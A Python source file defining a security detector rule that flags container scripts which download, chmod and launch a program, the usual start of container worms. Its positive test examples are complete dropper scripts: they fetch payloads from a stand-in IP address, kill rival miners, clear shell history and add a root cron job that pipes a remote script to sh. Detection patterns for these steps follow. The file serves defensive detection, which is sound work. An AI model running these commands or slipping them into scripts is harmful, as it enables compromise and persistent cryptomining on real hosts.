"""CON-005: a script that fetches a program, makes room for it and starts it: how most container worms begin."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, Kind
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-005",
        title=Text("Find a script that fetches and starts a program", "发现下载并启动程序的脚本"),
        message=Text("Find a script that fetches and starts a program: {object}", "发现下载并启动程序的脚本：{object}"),
        severity=Severity.HIGH,
        maturity=Maturity.STABLE,
        remediation=Text(
            "Look at the addresses that it names and at what it has already started. Let the container reach only what it needs.",
            "检查其中的地址以及它已启动的程序，并仅允许容器访问所需地址。",
        ),
        techniques=(
            "T1105",
            "T1059.004",
        ),
        behaviours=(46,),
        fires=(
            Example(
                b"#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nwget http://203.0.113.5/x86; curl -O http://203.0.113.5/x86; chmod 777 x86; ./x86\nrm -rf x86\n",
                "the classic one",
            ),
            Example(
                b"#!/bin/bash\npkill -9 xmrig; pkill -9 kinsing\nchattr -i /etc/crontab\ncurl -fsSL http://203.0.113.5/k -o /tmp/k && chmod +x /tmp/k && nohup /tmp/k >/dev/null 2>&1 &\n",
                "drives others away first",
            ),
            Example(
                b"export HISTFILE=/dev/null\n(curl -s http://203.0.113.5/a.sh || wget -qO- http://203.0.113.5/a.sh) | bash\necho '* * * * * root curl -s http://203.0.113.5/a.sh | sh' >> /etc/crontab\n",
                "comes back by cron",
            ),
        ),
        quiet=(
            Example(
                b"#!/bin/sh\nset -e\ncurl -fsSL https://example.com/tool.tar.gz -o /opt/tool.tar.gz\ntar -xzf /opt/tool.tar.gz -C /opt\nchmod +x /opt/tool/bin/tool\n/opt/tool/bin/tool --version\n",
                "an installer",
            ),
            Example(
                b"#!/bin/sh\nuntil curl -sf http://localhost:8080/health; do sleep 1; done\nexec /srv/app\n",
                "waits for a service",
            ),
            Example(b"#!/bin/sh\nchmod +x ./gradlew && ./gradlew build\n", "a build"),
        ),
    ),
    quick=(
        (rb"(wget|curl)\s", rb"://\d+\.\d+\.\d+\.\d+", rb"chmod\s"),
        (
            rb"\b(wget|curl|lwp-download|aria2c|ftpget|tftp)\b",
            rb"chmod\s",
            rb"(https?|ftp)://",
            rb"nohup\s|setsid\s|[;&\n]\s*(\./|/tmp/|/var/tmp/|/dev/shm/)",
        ),
        (
            rb"(curl|wget)\s",
            rb"\|\s*\(?\s*((sudo\s+)?(ba|da|z)?sh\b|(curl|wget)\s)",
            rb"://\d|/etc/cron|crontab\s|/spool/cron|authorized_keys",
        ),
    ),
    kinds=(Kind.SCRIPT,),
    source=r"""
    strings:
        $fetch = /\b(wget|curl|lwp-download|aria2c|ftpget|tftp)\b[^\n]{0,200}(https?|ftp):\/\//
        $address = /(https?|ftp):\/\/\d{1,3}(\.\d{1,3}){3}(:\d+)?\//
        $places = /cd\s+\/(tmp|var\/run|var\/tmp|mnt|dev\/shm|root)\s*(\|\||;)\s*cd\s+\//
        $mode = /chmod\s+(\+x|a\+x|7[0-7][0-7]|0?7[57][57])\s/
        $start = /(nohup\s+|setsid\s+|;\s*|&&\s*|\n)(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)\S{1,60}/
        $erase = /rm\s+-r?f\s+(\S{0,20}\/)?\S{1,40}\s*(\n|;|$)/
        $rivals = /(pkill|killall|kill)\s[^\n]{0,60}(xmrig|kinsing|kdevtmpfsi|minerd|watchbog|sysrv|ddgs|cpuminer)/
        $unlock = /chattr\s+-[iaR]{1,3}\s[^\n]{0,40}\/(etc|root|var|tmp|usr)/
        $quiet = /HISTFILE=(\/dev\/null|\s)|unset\s+HISTFILE|history\s+-c/
        $both = /(curl|wget)\s[^\n]{0,160}\|\|\s*\(?\s*(curl|wget)\s[^\n]{0,160}\|\s*(ba|da|z)?sh\b/
        $pipe = /(curl|wget)\s[^\n]{0,200}\|\s*(sudo\s+)?(ba|da|z)?sh\b/
        $cron = /(\/etc\/cron|crontab\s+-|\/var\/spool\/cron)/
        $keys = /authorized_keys/
        $shield = /(setenforce\s+0|iptables\s+-F|ufw\s+disable|aliyun-service|cloudmonitor|systemctl\s+(stop|disable)\s+(apparmor|falco|auditd))/
        $chain = /\b(wget|curl)\s[^\n;|&]{0,120}\/\/\d{1,3}(\.\d{1,3}){3}[^\n;|&]{0,120}(;|&&)\s*chmod\s+(\+x|[0-7]{3,4})\s+\S{1,60}\s*(;|&&)\s*((ba)?sh\s|\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
    condition:
        filesize < 1MB and (
            $chain
            or ($fetch and $address and $mode and $start and ($places or $erase))
            or ($fetch and $mode and $start and 1 of ($rivals, $unlock, $quiet, $shield))
            or (($both or $pipe) and ($address or $cron or $keys) and 1 of ($rivals, $unlock, $quiet, $shield, $cron, $keys))
        )
""",
)
